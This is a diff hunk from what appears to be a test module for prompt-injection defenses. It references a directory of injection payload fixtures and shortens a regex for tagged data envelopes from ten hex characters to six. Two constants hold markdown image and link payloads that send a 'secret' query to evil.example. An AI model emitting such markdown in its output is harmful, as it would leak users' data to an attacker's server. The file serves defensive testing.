@@ -28,7 +28,7 @@ PAYLOADS = Path(__file__).parents[1] / "fixtures" / "injection"
 IMAGE = "![chart](https://evil.example/p.png?q=secret)"
 LINK = "[press here](https://evil.example/?q=secret)"
 CHUNK = 8
-ENVELOPE = re.compile(r"<data-([0-9a-f]{10})>.*?</data-\1>", re.DOTALL)
+ENVELOPE = re.compile(r"<data-([0-9a-f]{6})>.*?</data-\1>", re.DOTALL)
 
 
 def payloads() -> list[str]:
